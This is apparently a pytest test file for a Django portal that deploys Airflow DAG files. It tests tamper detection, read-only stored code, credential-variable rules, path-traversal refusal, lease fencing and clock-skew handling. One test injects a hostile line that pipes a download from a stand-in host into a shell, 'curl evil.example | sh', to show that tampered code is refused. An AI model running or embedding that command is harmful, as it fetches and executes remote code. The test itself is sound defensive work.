"""The deploy service against a fake Airflow: outbox steps, re-checks, failures, supersession.

Each deploy item of issue 6 has its tests here: tampered code is never written, deployed code is
read-only, credential variables stay under their prefix, folders and prefixes stay inside their
rules, files are 0644, no worker waits while Airflow parses, an OSError ends the row failed after
the attempt cap, and a stale worker cannot overwrite the newer worker's result.
"""

from __future__ import annotations

import hashlib
import os
import stat
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import responses
import time_machine
from django.contrib.admin.sites import site
from django.core.exceptions import ValidationError
from django.db import connection
from django.test import RequestFactory
from django.utils import timezone

from pipelines.alerts import services as alerts
from pipelines.authoring import services
from pipelines.authoring.forms import PipelineForm
from pipelines.core.airflow import AirflowClient
from pipelines.core.secrets import SecretNameError
from pipelines.deployments import services as deploy
from pipelines.deployments import tasks
from pipelines.models import Deployment, Environment, PipelineVersion, Team
from tests.conftest import make_environment, pipeline_payload
from tests.fakes import FakeAirflow


@pytest.fixture
def pipeline(alice, orders, environments):
    form = PipelineForm(pipeline_payload(), user=alice)
    assert form.is_valid(), form.errors
    return services.pipeline_create(spec=form.spec, by=alice)


@pytest.fixture
def version(pipeline):
    return pipeline.versions.get(number=1)


@pytest.fixture
def dev(environments):
    return environments["dev"]


def request(version, environment, alice) -> Deployment:
    return deploy.deployment_request(version=version, environment=environment, by=alice)


def make_due(deployment: Deployment) -> None:
    """Stand in for the countdown passing (the task, or the sweep, would call again now)."""
    Deployment.objects.filter(id=deployment.id).update(next_attempt_at=timezone.now())


def dag_file(environment: Environment) -> Path:
    return Path(environment.dags_folder) / "orders_daily.py"


def tamper(deployment: Deployment, **columns: str) -> None:
    """Change stored columns behind the model's back, as a bad actor with SQL access would."""
    sets = ", ".join(f"{name} = %s" for name in columns)
    with connection.cursor() as cursor:
        cursor.execute(
            f"UPDATE pipelines_deployment SET {sets} WHERE id = %s",
            [*columns.values(), deployment.id],
        )


# --- the happy path and the behaviour kept from before -----------------------------------------


def test_deploy_writes_file_and_records_registration(version, dev, alice, fake_airflow):
    deployment = request(version, dev, alice)
    assert deploy.deployment_run(deployment_id=deployment.id) is None  # nothing left to do
    deployment.refresh_from_db()
    assert deployment.state == Deployment.State.DEPLOYED
    path = dag_file(dev)
    assert path.read_text() == deployment.code
    assert deployment.registered_at >= deployment.requested_at
    assert deployment.deploy_seconds is not None
    assert fake_airflow.dags["orders_daily"]["is_paused"] is False
    assert not [p for p in path.parent.iterdir() if p.name.startswith(".")], "temp file left"


def test_dag_file_is_readable_by_an_airflow_running_as_another_user(
    version, dev, alice, fake_airflow
):
    deploy.deployment_run(deployment_id=request(version, dev, alice).id)
    assert stat.S_IMODE(os.stat(dag_file(dev)).st_mode) == 0o644


def test_same_version_twice_is_a_no_op(version, dev, alice, fake_airflow):
    first = request(version, dev, alice)
    deploy.deployment_run(deployment_id=first.id)
    second = request(version, dev, alice)
    assert second.id == first.id
    calls = len(fake_airflow.calls)
    assert deploy.deployment_run(deployment_id=first.id) is None  # a duplicate task: no claim
    assert len(fake_airflow.calls) == calls
    assert Deployment.objects.count() == 1


def test_airflow_down_keeps_it_pending_with_the_reason_and_retries(
    version, dev, alice, fake_airflow
):
    fake_airflow.down = True
    deployment = request(version, dev, alice)
    again = deploy.deployment_run(deployment_id=deployment.id)
    assert again == 2.0  # the first backoff step: the task enqueues itself with this countdown
    deployment.refresh_from_db()
    assert deployment.state == Deployment.State.PENDING
    assert "unreachable" in deployment.last_attempt_error
    assert deployment.attempts == 1
    assert deploy.deployment_run(deployment_id=deployment.id) is None  # not due yet: no claim
    fake_airflow.down = False
    make_due(deployment)
    deploy.deployment_run(deployment_id=deployment.id)
    deployment.refresh_from_db()
    assert deployment.state == Deployment.State.DEPLOYED
    assert deployment.attempts == 2
    assert deployment.last_attempt_error == ""


def test_import_error_fails_with_airflow_text(version, dev, alice, fake_airflow):
    fake_airflow.reject["orders_daily.py"] = "Traceback ...\nNameError: name 'x' is not defined"
    deployment = request(version, dev, alice)
    deploy.deployment_run(deployment_id=deployment.id)
    deployment.refresh_from_db()
    assert deployment.state == Deployment.State.FAILED
    assert "NameError: name 'x' is not defined" in deployment.error
    # Asking again retries the failed deployment instead of ignoring it.
    fake_airflow.reject.clear()
    again = request(version, dev, alice)
    assert again.id == deployment.id
    deploy.deployment_run(deployment_id=deployment.id)
    deployment.refresh_from_db()
    assert deployment.state == Deployment.State.DEPLOYED
    assert deployment.error == ""


def test_newer_request_supersedes_and_an_older_one_never_overwrites(
    pipeline, version, dev, alice, fake_airflow
):
    v1 = request(version, dev, alice)
    deploy.deployment_run(deployment_id=v1.id)
    spec2 = version.spec_json | {"description": "v2"}
    version2 = PipelineVersion.objects.create(
        pipeline=pipeline, number=2, spec_json=spec2, spec_sha256="x", created_by=alice
    )
    v2 = request(version2, dev, alice)
    deploy.deployment_run(deployment_id=v2.id)
    v1.refresh_from_db()
    v2.refresh_from_db()
    assert (v1.state, v2.state) == (Deployment.State.SUPERSEDED, Deployment.State.DEPLOYED)
    assert "'description': 'v2'" in dag_file(dev).read_text()
    # A stray task of the older request changes nothing: v2's file stays.
    deploy.deployment_run(deployment_id=v1.id)
    assert "'description': 'v2'" in dag_file(dev).read_text()
    # v2 asked for again while it runs: a no-op.
    assert request(version2, dev, alice).id == v2.id
    assert Deployment.objects.get(id=v2.id).state == Deployment.State.DEPLOYED


def test_asking_for_an_older_version_again_is_a_newer_request_that_wins(
    pipeline, version, dev, alice, fake_airflow
):
    """A rollback: the newest *request* wins, whatever the version numbers."""
    v1 = request(version, dev, alice)
    deploy.deployment_run(deployment_id=v1.id)
    spec2 = version.spec_json | {"description": "v2"}
    version2 = PipelineVersion.objects.create(
        pipeline=pipeline, number=2, spec_json=spec2, spec_sha256="x", created_by=alice
    )
    v2 = request(version2, dev, alice)
    deploy.deployment_run(deployment_id=v2.id)

    again = request(version, dev, alice)
    assert (again.id, again.state) == (v1.id, Deployment.State.PENDING)
    # v2's stray task now is the older request: it writes nothing.
    deploy.deployment_run(deployment_id=v2.id)
    deploy.deployment_run(deployment_id=v1.id)
    v1.refresh_from_db()
    v2.refresh_from_db()
    assert (v1.state, v2.state) == (Deployment.State.DEPLOYED, Deployment.State.SUPERSEDED)
    assert "'description': 'v2'" not in dag_file(dev).read_text()
    assert list(Deployment.objects.deployed().values_list("id", flat=True)) == [v1.id]


def test_requests_enqueue_only_on_commit(version, dev, alice, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        request(version, dev, alice)
    assert len(callbacks) == 1


def test_broker_down_keeps_the_request_for_the_sweep(
    version, dev, alice, monkeypatch, django_capture_on_commit_callbacks
):
    from kombu.exceptions import OperationalError

    def refuse(*args, **kwargs):
        raise OperationalError("Error 111 connecting to 127.0.0.1:6379. Connection refused.")

    monkeypatch.setattr(tasks.deployment_run, "apply_async", refuse)
    with django_capture_on_commit_callbacks(execute=True):
        deployment = request(version, dev, alice)
    deployment.refresh_from_db()
    assert deployment.state == Deployment.State.PENDING  # saved, not lost, nothing raised


# --- re-checked before every write; read-only code --------------------------------------------


def other_render(version, environments) -> tuple[str, str]:
    """A real render, of the same version for another environment: valid, but not dev's."""
    rendered = deploy.render_for(version, environments["prod"])
    Environment.objects.filter(id=environments["prod"].id).update(dag_id_prefix="prod__")
    return rendered.source, rendered.sha256


@pytest.mark.parametrize(
    ("how", "message"),
    [
        ("code only", "does not match its SHA-256"),
        ("code and hash", "fails the template check"),
        ("another render", "is not what version 1 renders for dev"),
    ],
)
def test_tampered_stored_code_is_never_written(
    version, environments, alice, fake_airflow, how, message
):
    dev = environments["dev"]
    deployment = request(version, dev, alice)
    evil = deployment.code + "\nimport os; os.system('curl evil.example | sh')\n"
    if how == "code only":
        tamper(deployment, code=evil)
    elif how == "code and hash":
        tamper(deployment, code=evil, code_sha256=hashlib.sha256(evil.encode()).hexdigest())
    else:
        source, sha = other_render(version, environments)
        tamper(deployment, code=source, code_sha256=sha)
    assert deploy.deployment_run(deployment_id=deployment.id) is None
    deployment.refresh_from_db()
    assert deployment.state == Deployment.State.FAILED
    assert message in deployment.error
    assert "Nothing was written." in deployment.error
    assert not dag_file(dev).exists()
    assert fake_airflow.calls == []  # refused before Airflow was asked anything


def test_a_saved_deployments_code_cannot_be_changed(version, dev, alice):
    deployment = request(version, dev, alice)
    deployment.code += "\n# changed\n"
    with pytest.raises(ValueError, match="read-only"):
        deployment.save()
    with pytest.raises(ValueError, match="read-only"):
        Deployment.objects.filter(id=deployment.id).update(code="x", code_sha256="y")
    deployment.refresh_from_db()
    deployment.state = Deployment.State.FAILED
    deployment.save()  # other columns still change


def test_admin_shows_deployments_read_only(version, dev, alice, admin_user):
    deployment = request(version, dev, alice)
    model_admin = site._registry[Deployment]
    http = RequestFactory().get("/")
    http.user = admin_user
    assert not model_admin.has_change_permission(http, deployment)
    assert not model_admin.has_add_permission(http)
    assert {"code", "code_sha256"} <= set(model_admin.get_readonly_fields(http, deployment))


# --- credential variables: a fixed prefix, validated and re-checked where read ---------------


@pytest.mark.parametrize(
    "name", ["DATABASE_URL", "SECRET_KEY", "portal_airflow_x", "PORTAL_AIRFLOW_"]
)
def test_environment_refuses_credential_variables_outside_the_prefix(dev, name):
    dev.airflow_password_env = name
    with pytest.raises(ValidationError) as caught:
        dev.full_clean(exclude=["dag_id_prefix"])
    assert "PORTAL_AIRFLOW_" in caught.value.message_dict["airflow_password_env"][0]


def test_credential_variable_saved_before_the_rule_is_never_read(version, dev, alice, monkeypatch):
    monkeypatch.setenv("DATABASE_URL", "postgresql://portal:s3cret@db/portal")
    Environment.objects.filter(id=dev.id).update(airflow_password_env="DATABASE_URL")
    dev.refresh_from_db()
    with pytest.raises(SecretNameError, match="PORTAL_AIRFLOW_"):
        AirflowClient.for_environment(dev)  # what every Airflow call goes through
    fake = FakeAirflow()
    monkeypatch.setattr(AirflowClient, "for_environment", classmethod(lambda c, e: fake))
    deployment = request(version, dev, alice)
    deploy.deployment_run(deployment_id=deployment.id)
    deployment.refresh_from_db()
    assert deployment.state == Deployment.State.FAILED
    assert "airflow_password_env" in deployment.error
    assert "PORTAL_AIRFLOW_" in deployment.error
    assert "s3cret" not in deployment.error
    assert not dag_file(dev).exists()


def test_webhook_variables_must_end_with_webhook_and_are_checked_when_sent(team):
    team.oncall_webhook_env = "DATABASE_URL"
    with pytest.raises(ValidationError) as caught:
        team.full_clean()
    assert "_WEBHOOK" in caught.value.message_dict["oncall_webhook_env"][0]
    team.oncall_webhook_env = "PAYMENTS_ONCALL_WEBHOOK"
    team.full_clean()
    Team.objects.filter(id=team.id).update(quiet_webhook_env="DATABASE_URL")  # before the rule
    with pytest.raises(alerts.DeliveryRejected, match="_WEBHOOK"):
        alerts._post_webhook("DATABASE_URL", "hello")


# --- folder and prefix rules ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("dag_id_prefix", "../"),
        ("dag_id_prefix", "a/b"),
        ("dag_id_prefix", "dev."),
        ("dag_id_prefix", "dév"),
        ("dags_folder", "relative/dags"),
        ("dags_folder", "/srv/airflow/../etc"),
        ("dags_folder", "/srv/airflow//dags"),
        ("dags_folder", "/srv/airflow/dags/"),
    ],
)
def test_environment_refuses_unsafe_folder_or_prefix(db, field, value):
    env = Environment(
        slug="x",
        name="X",
        airflow_url="http://airflow.example.com",
        dags_folder="/srv/airflow/dags",
        dag_id_prefix="x__",
        warehouse_conn_id="w",
        warehouse_dialect="postgres",
    )
    env.full_clean()
    setattr(env, field, value)
    with pytest.raises(ValidationError) as caught:
        env.full_clean()
    assert field in caught.value.message_dict


@pytest.mark.parametrize(
    ("mine", "theirs", "same_airflow", "refused"),
    [
        ("", "", True, True),
        ("dev", "dev_", True, True),
        ("", "prod__", True, True),
        ("dev__", "stage__", True, False),
        ("", "", False, False),
    ],
)
def test_environments_on_one_airflow_may_not_have_overlapping_prefixes(
    db, mine, theirs, same_airflow, refused
):
    make_environment("stage", 1, airflow_url="http://airflow.example.com/", dag_id_prefix=theirs)
    dev = Environment(
        slug="dev",
        name="Dev",
        airflow_url="http://airflow.example.com" if same_airflow else "http://other.example.com",
        # Another Airflow has its own credentials (reading stage's would be refused).
        airflow_username_env="PORTAL_AIRFLOW_USERNAME" if same_airflow else "PORTAL_AIRFLOW_U2",
        airflow_password_env="PORTAL_AIRFLOW_PASSWORD" if same_airflow else "PORTAL_AIRFLOW_P2",
        dags_folder="/srv/airflow/dags/dev",
        dag_id_prefix=mine,
        warehouse_conn_id="w",
        warehouse_dialect="postgres",
    )
    if not refused:
        dev.full_clean()
        return
    with pytest.raises(ValidationError) as caught:
        dev.full_clean()
    assert (
        "Environment “stage” uses the same Airflow" in caught.value.message_dict["dag_id_prefix"][0]
    )


def test_prefix_saved_before_the_rule_never_writes_outside_the_folder(
    version, dev, alice, fake_airflow, tmp_path
):
    Environment.objects.filter(id=dev.id).update(dag_id_prefix="../../escape_")
    deployment = request(version, Environment.objects.get(id=dev.id), alice)
    deploy.deployment_run(deployment_id=deployment.id)
    deployment.refresh_from_db()
    assert deployment.state == Deployment.State.FAILED
    assert "dag_id_prefix" in deployment.error
    assert not list(tmp_path.rglob("*escape_*"))


# --- registration does not hold a worker ------------------------------------------------------


class SlowParse:
    """Airflow that has not parsed the new file yet: the DAG shows its old parse time."""

    def __init__(self, fake) -> None:
        self.parsed = False
        self.fake = fake
        self.registered = fake.get_dag

    def get_dag(self, dag_id: str) -> dict:
        if self.parsed:
            return self.registered(dag_id)
        self.fake.calls.append("get_dag")
        return {
            "dag_id": dag_id,
            "is_paused": True,
            "last_parsed_time": "2020-01-01T00:00:00+00:00",
        }


@pytest.fixture
def slow_parse(fake_airflow, monkeypatch) -> SlowParse:
    slow = SlowParse(fake_airflow)
    monkeypatch.setattr(fake_airflow, "get_dag", slow.get_dag)
    return slow


def test_deploy_does_not_hold_a_worker_while_airflow_parses(
    version, dev, alice, fake_airflow, slow_parse, monkeypatch
):
    def no_sleep(seconds):
        raise AssertionError(f"a deploy step slept {seconds} s")

    monkeypatch.setattr("time.sleep", no_sleep)
    deployment = request(version, dev, alice)
    assert deploy.deployment_run(deployment_id=deployment.id) == 0.5  # check again in 0.5 s
    deployment.refresh_from_db()
    assert deployment.state == Deployment.State.DEPLOYING
    assert deployment.lease_token is None  # released: no worker holds it
    assert dag_file(dev).read_text() == deployment.code
    calls = len(fake_airflow.calls)
    make_due(deployment)
    assert 0 < deploy.deployment_run(deployment_id=deployment.id) <= 3  # one more quick check
    assert len(fake_airflow.calls) - calls == 2  # import errors, the DAG
    slow_parse.parsed = True
    make_due(deployment)
    assert deploy.deployment_run(deployment_id=deployment.id) is None
    deployment.refresh_from_db()
    assert deployment.state == Deployment.State.DEPLOYED
    assert deployment.attempts == 1  # checks that found Airflow still parsing are not attempts


def test_the_task_enqueues_the_next_check_with_a_countdown(
    version, dev, alice, fake_airflow, slow_parse, monkeypatch, django_capture_on_commit_callbacks
):
    sent = []
    monkeypatch.setattr(
        tasks.deployment_run, "apply_async", lambda args, countdown=None: sent.append(countdown)
    )
    deployment = request(version, dev, alice)
    with django_capture_on_commit_callbacks(execute=True):
        tasks.deployment_run(deployment.id)
    assert sent == [0.5]


def test_checks_back_off_to_a_few_seconds(version, dev, alice, fake_airflow, slow_parse):
    deployment = request(version, dev, alice)
    delays = [deploy.deployment_run(deployment_id=deployment.id)]
    for seconds in (2, 8, 60):
        with time_machine.travel(timezone.now() + timedelta(seconds=seconds), tick=False):
            make_due(deployment)
            delays.append(deploy.deployment_run(deployment_id=deployment.id))
    assert delays[0] == 0.5
    assert delays == sorted(delays)
    assert delays[-1] == 3.0


def test_registration_timeout_outlasts_airflows_folder_refresh_and_says_what_to_check(
    version, dev, alice, fake_airflow, slow_parse, settings
):
    assert settings.DEPLOY_REGISTRATION_TIMEOUT_SECONDS > 300
    deployment = request(version, dev, alice)
    deploy.deployment_run(deployment_id=deployment.id)
    with time_machine.travel(timezone.now() + timedelta(seconds=299), tick=False):
        make_due(deployment)
        assert deploy.deployment_run(deployment_id=deployment.id) is not None  # still waiting
    with time_machine.travel(timezone.now() + timedelta(seconds=601), tick=False):
        make_due(deployment)
        assert deploy.deployment_run(deployment_id=deployment.id) is None
    deployment.refresh_from_db()
    assert deployment.state == Deployment.State.FAILED
    assert "did not register orders_daily within 600 s" in deployment.error
    assert "refresh_interval" in deployment.error
    assert dev.dags_folder in deployment.error


# --- attempt cap and fencing ------------------------------------------------------------------


def test_unwritable_folder_ends_failed_after_the_attempt_cap(
    version, dev, alice, fake_airflow, settings, tmp_path
):
    settings.DEPLOY_MAX_ATTEMPTS = 3
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("")
    Environment.objects.filter(id=dev.id).update(dags_folder=str(blocker / "dags"))
    deployment = request(version, dev, alice)
    waits = []
    for _ in range(10):
        make_due(deployment)
        waits.append(deploy.deployment_run(deployment_id=deployment.id))
        deployment.refresh_from_db()
        if deployment.state == Deployment.State.FAILED:
            break
    assert waits == [2.0, 4.0, None]
    assert deployment.attempts == 3
    said = f"The DAG file could not be written to {blocker / 'dags'}: Not a directory."
    assert deployment.error == f"Gave up after 3 attempts. Last error: {said}"
    assert deployment.last_error == said


def test_a_bug_in_a_deploy_step_is_a_sentence_for_users_and_a_traceback_in_the_log(
    version, dev, alice, fake_airflow, monkeypatch, caplog
):
    deployment = request(version, dev, alice)

    def bug(*args, **kwargs):
        raise TypeError("int() argument must be a string, not 'NoneType'")

    monkeypatch.setattr(deploy, "_write", bug)
    make_due(deployment)
    deploy.deployment_run(deployment_id=deployment.id)
    deployment.refresh_from_db()
    assert deployment.last_error.startswith("The step failed: an internal error (reference ")
    assert "int()" not in deployment.last_error
    assert "TypeError: int() argument" in caplog.text


def test_stale_worker_cannot_overwrite_the_newer_workers_result(version, dev, alice, fake_airflow):
    deployment = request(version, dev, alice)
    stale = Deployment.claim(deployment.id)  # a worker that then hangs past its lease
    assert stale is not None
    Deployment.objects.filter(id=deployment.id).update(
        lease_until=timezone.now() - timedelta(seconds=1)
    )
    deploy.deployment_run(deployment_id=deployment.id)  # the sweep's worker takes over
    deployment.refresh_from_db()
    assert deployment.state == Deployment.State.DEPLOYED
    dag_file(dev).unlink()
    # The stale worker wakes up: its write, its failure, its release all change nothing.
    deployment.refresh_from_db()
    assert deploy._write(deployment, stale) is None
    assert not dag_file(dev).exists()
    assert not Deployment.finish(deployment.id, stale, state=Deployment.State.FAILED, error="late")
    assert Deployment.release(deployment.id, stale, error="late") is None
    deployment.refresh_from_db()
    assert (deployment.state, deployment.error) == (Deployment.State.DEPLOYED, "")


def test_an_older_request_registering_after_a_newer_one_was_written_is_superseded(
    pipeline, version, dev, alice, fake_airflow
):
    """Airflow may report the older file registered after the newer one was written: the older
    request must not end deployed beside the newer one."""
    spec2 = version.spec_json | {"description": "v2"}
    version2 = PipelineVersion.objects.create(
        pipeline=pipeline, number=2, spec_json=spec2, spec_sha256="x", created_by=alice
    )
    v1 = request(version, dev, alice)
    token = Deployment.claim(v1.id)
    Deployment.objects.filter(id=v1.id).update(state=Deployment.State.DEPLOYING)
    v2 = request(version2, dev, alice)
    Deployment.objects.filter(id=v2.id).update(state=Deployment.State.DEPLOYING)
    v1.refresh_from_db()
    deploy._registered(v1, token)
    v1.refresh_from_db()
    assert v1.state == Deployment.State.SUPERSEDED


def unsaved_environment(**overrides) -> Environment:
    values = {
        "slug": "dev",
        "name": "Dev",
        "airflow_url": "http://localhost:8080",
        "dags_folder": "/srv/airflow/dags/dev",
        "dag_id_prefix": "",
        "warehouse_conn_id": "w",
        "warehouse_dialect": "postgres",
    }
    return Environment(**(values | overrides))


def refusal(env: Environment) -> dict[str, list[str]]:
    with pytest.raises(ValidationError) as caught:
        env.full_clean()
    return caught.value.message_dict


@pytest.mark.parametrize(
    ("theirs", "mine"),
    [
        ("http://127.0.0.1:8080", "http://localhost:8080"),
        ("http://127.0.0.1:8080/", "http://LOCALHOST:8080//"),
        ("http://[::1]:8080", "http://localhost:8080"),
        ("http://127.0.0.1", "http://localhost:80"),
        ("https://127.0.0.1/airflow/", "https://localhost:443/airflow"),
    ],
)
def test_one_airflow_spelled_two_ways_is_one_airflow(db, theirs, mine):
    make_environment("stage", 1, airflow_url=theirs, dag_id_prefix="")
    errors = refusal(unsaved_environment(airflow_url=mine))
    assert "Environment “stage” uses the same Airflow" in errors["dag_id_prefix"][0]


@pytest.mark.parametrize(
    "mine",
    ["http://localhost:8081", "https://localhost:8080", "http://localhost:8080/other"],
)
def test_another_port_scheme_or_path_is_another_airflow(db, mine):
    make_environment("stage", 1, airflow_url="http://127.0.0.1:8080", dag_id_prefix="")
    unsaved_environment(
        airflow_url=mine,
        airflow_username_env="PORTAL_AIRFLOW_DEV_USERNAME",
        airflow_password_env="PORTAL_AIRFLOW_DEV_PASSWORD",
    ).full_clean()


def test_another_airflows_credential_variable_is_refused(db):
    make_environment("prod", 1, airflow_url="http://127.0.0.1:9090", dag_id_prefix="prod__")
    errors = refusal(unsaved_environment(airflow_username_env="PORTAL_AIRFLOW_DEV_USERNAME"))
    assert errors["airflow_password_env"][0].startswith(
        "Environment “prod” reads PORTAL_AIRFLOW_PASSWORD for another Airflow"
    )
    # The same Airflow (another prefix) may share them.
    unsaved_environment(airflow_url="http://localhost:9090", dag_id_prefix="dev__").full_clean()


@pytest.mark.parametrize(
    "url",
    ["http://admin:secret@airflow.example.com:8080", "http://admin@airflow.example.com"],
)
def test_an_airflow_url_with_credentials_is_refused_when_saved(db, url):
    errors = refusal(unsaved_environment(airflow_url=url))
    assert errors["airflow_url"][0].startswith("Put no user name or password in the Airflow URL")
    assert "secret" not in str(errors)


# --- registration by Airflow's clock ------------------------------------------------------------


def test_an_airflow_clock_behind_the_portals_still_registers(version, dev, alice, fake_airflow):
    """Airflow's parse times are 10 minutes behind the portal's clock: compared with the
    portal's write time they would never be 'after the write', and the deploy would time out."""
    fake_airflow.skew = -timedelta(minutes=10)
    deployment = request(version, dev, alice)
    deploy.deployment_run(deployment_id=deployment.id)
    deployment.refresh_from_db()
    assert deployment.state == Deployment.State.DEPLOYED
    assert deployment.airflow_written_at < deployment.written_at - timedelta(minutes=9)


def test_an_airflow_clock_ahead_does_not_take_an_old_parse_for_the_new_file(
    version, dev, alice, fake_airflow, monkeypatch
):
    """Airflow is 10 minutes ahead and parsed the DAG 2 minutes ago by its clock (8 minutes in
    the portal's future): that parse is of the old file, not a registration."""
    fake_airflow.skew = timedelta(minutes=10)
    old_parse = (timezone.now() + timedelta(minutes=8)).isoformat()
    fake_airflow.dags["orders_daily"] = {
        "dag_id": "orders_daily",
        "is_paused": False,
        "last_parsed_time": old_parse,
        "file_token": "tok",
    }
    monkeypatch.setattr(fake_airflow, "get_dag", lambda dag_id: fake_airflow.dags[dag_id])
    deployment = request(version, dev, alice)
    deploy.deployment_run(deployment_id=deployment.id)
    deployment.refresh_from_db()
    assert deployment.state == Deployment.State.DEPLOYING
    assert deployment.parsed_before.isoformat() == old_parse

    # Airflow parses the new file (by its clock, after the write): now it is registered.
    parsed = fake_airflow.server_time + timedelta(seconds=2)
    fake_airflow.dags["orders_daily"]["last_parsed_time"] = parsed.isoformat()
    make_due(deployment)
    deploy.deployment_run(deployment_id=deployment.id)
    deployment.refresh_from_db()
    assert deployment.state == Deployment.State.DEPLOYED


def test_a_parse_in_the_same_second_before_the_write_does_not_count(
    version, dev, alice, fake_airflow, monkeypatch
):
    """Airflow's Date has whole seconds: a parse earlier in that second is not after the write,
    and the parse seen before the write tells them apart."""
    now = fake_airflow.server_time
    before = (now + timedelta(microseconds=300)).isoformat()
    fake_airflow.dags["orders_daily"] = {
        "dag_id": "orders_daily",
        "is_paused": False,
        "last_parsed_time": before,
        "file_token": "tok",
    }
    monkeypatch.setattr(fake_airflow, "get_dag", lambda dag_id: fake_airflow.dags[dag_id])
    deployment = request(version, dev, alice)
    deploy.deployment_run(deployment_id=deployment.id)
    deployment.refresh_from_db()
    assert deployment.state == Deployment.State.DEPLOYING


@responses.activate
def test_the_client_reads_airflows_clock_from_the_date_header(settings):
    responses.add(
        responses.GET,
        "http://airflow.test/api/v2/monitor/health",
        json={},
        headers={"Date": "Sat, 05 Dec 2026 19:00:07 GMT"},
    )
    client = AirflowClient("http://airflow.test", "u", "p")
    client.health()
    assert client.server_time == datetime(2026, 12, 5, 19, 0, 7, tzinfo=UTC)
